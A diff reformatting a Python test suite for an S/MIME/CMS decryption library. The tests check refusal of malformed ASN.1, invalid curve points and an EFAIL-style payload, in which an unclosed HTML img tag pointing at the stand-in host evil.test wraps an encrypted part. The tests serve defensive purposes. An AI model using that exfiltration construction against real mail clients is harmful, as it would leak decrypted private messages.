@@ -47,8 +47,16 @@ def flipped(data: bytes, at: int, bit: int = 1) -> bytes:
 def test_01_an_encrypted_part_between_others_is_not_decrypted(authority: Authority, bob: Person, around: str, cipher: str) -> None:
     part = opaque(hidden(bob, cipher), header="").read()
     html = b"--o\r\nContent-Type: text/html\r\n\r\n"
-    body = Body.of(HEADER.encode() + f'Content-Type: multipart/{around}; boundary="o"\r\n\r\n'.encode()
-                   + html + b'<img src="http://evil.test/\r\n--o\r\n' + part + b"\r\n" + html + b'">\r\n--o--\r\n')
+    body = Body.of(
+        HEADER.encode()
+        + f'Content-Type: multipart/{around}; boundary="o"\r\n\r\n'.encode()
+        + html
+        + b'<img src="http://evil.test/\r\n--o\r\n'
+        + part
+        + b"\r\n"
+        + html
+        + b'">\r\n--o--\r\n'
+    )
     got = opened(authority, body, bob)
     assert got.readable is body
     assert got.verdict.encryption is EncryptionStatus.NONE
@@ -58,8 +66,10 @@ def test_01_an_encrypted_part_between_others_is_not_decrypted(authority: Authori
 
 def test_01_not_even_as_the_only_part_or_in_a_message(authority: Authority, bob: Person) -> None:
     part = opaque(hidden(bob, "aes256-gcm"), header="").read()
-    for body in (Body.of(HEADER.encode() + b'Content-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\n' + part + b"\r\n--o--\r\n"),
-                 Body.of(HEADER.encode() + b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + part)):
+    for body in (
+        Body.of(HEADER.encode() + b'Content-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\n' + part + b"\r\n--o--\r\n"),
+        Body.of(HEADER.encode() + b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + part),
+    ):
         got = opened(authority, body, bob)
         assert Reason.PARTIAL in got.verdict.reasons
         assert b"Bonjour" not in got.readable.read()
@@ -238,6 +248,7 @@ def test_12_all_of_the_content_is_gone_through_whatever_the_key(authority: Autho
             for chunk in chunks:
                 work[-1] += len(chunk)
                 yield chunk
+
         work.append(0)
         return pour(each(), decryptor, write, cipher)
 
@@ -268,8 +279,9 @@ def test_12_recipients_are_matched_by_name_never_by_trying(authority: Authority,
 # 15 ---------------------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("point", [
-    b"\x04" + bytes(64), b"\x04" + b"\xff" * 64, b"\x00", b"", b"\x04" + b"\x17" * 64, b"\x02" + b"\xff" * 32])
+@pytest.mark.parametrize(
+    "point", [b"\x04" + bytes(64), b"\x04" + b"\xff" * 64, b"\x00", b"", b"\x04" + b"\x17" * 64, b"\x02" + b"\xff" * 32]
+)
 def test_15_points_off_the_curve(authority: Authority, point: bytes) -> None:  # RFC 5753
     bob = authority.issue("p256", forge.BOB)
     body = opaque(_agreement(bob, point, oids.ECDH_SHA256, oids.EC_PUBLIC_KEY))
@@ -342,15 +354,29 @@ def nested(levels: int, indefinite: bool) -> bytes:
     return data
 
 
-@pytest.mark.parametrize("data", [
-    nested(1000, True), nested(1000, False), b"\x30\x84\xff\xff\xff\xff", b"\x30\x88" + b"\xff" * 8, b"\x30\x89" + b"\xff" * 9,
-    b"\x30\x80" + b"\x04\x80", b"\x3f" + b"\xff" * 100, b"\x24\x80" * 40, b"", b"\x30", b"\x30\x80",
-], ids=range(11))
+@pytest.mark.parametrize(
+    "data",
+    [
+        nested(1000, True),
+        nested(1000, False),
+        b"\x30\x84\xff\xff\xff\xff",
+        b"\x30\x88" + b"\xff" * 8,
+        b"\x30\x89" + b"\xff" * 9,
+        b"\x30\x80" + b"\x04\x80",
+        b"\x3f" + b"\xff" * 100,
+        b"\x24\x80" * 40,
+        b"",
+        b"\x30",
+        b"\x30\x80",
+    ],
+    ids=range(11),
+)
 @pytest.mark.parametrize("where", ["root", "recipients", "content"])
 def test_20_hostile_structures(authority: Authority, bob: Person, data: bytes, where: str) -> None:
     head = oids.ENVELOPED_DATA + b"\xa0\x80\x30\x80\x02\x01\x00"
-    cms = {"root": data, "recipients": b"\x30\x80" + head + data,
-           "content": b"\x30\x80" + head + b"\x31\x00\x30\x80" + oids.DATA + data}[where]
+    cms = {"root": data, "recipients": b"\x30\x80" + head + data, "content": b"\x30\x80" + head + b"\x31\x00\x30\x80" + oids.DATA + data}[
+        where
+    ]
     body = opaque(cms)
     got = opened(authority, body, bob)
     assert got.readable is body
@@ -374,8 +400,14 @@ def test_20_a_million_pieces() -> None:
 
 def test_20_recipients_without_end(authority: Authority, alice: Person, bob: Person) -> None:
     info = recipients.recipient(alice.certificate, oaep=False).wrap(bytes(32))
-    cms = content_info(oids.ENVELOPED_DATA, der.sequence(der.integer(0), der.tlv(der.SET, info * 3000), der.sequence(
-        oids.DATA, identifier(oids.AES256_CBC, der.octets(bytes(16))), der.tlv(0x80, bytes(32)))))
+    cms = content_info(
+        oids.ENVELOPED_DATA,
+        der.sequence(
+            der.integer(0),
+            der.tlv(der.SET, info * 3000),
+            der.sequence(oids.DATA, identifier(oids.AES256_CBC, der.octets(bytes(16))), der.tlv(0x80, bytes(32))),
+        ),
+    )
     assert opened(authority, opaque(cms), bob).verdict.encryption is EncryptionStatus.FAILED
 
 
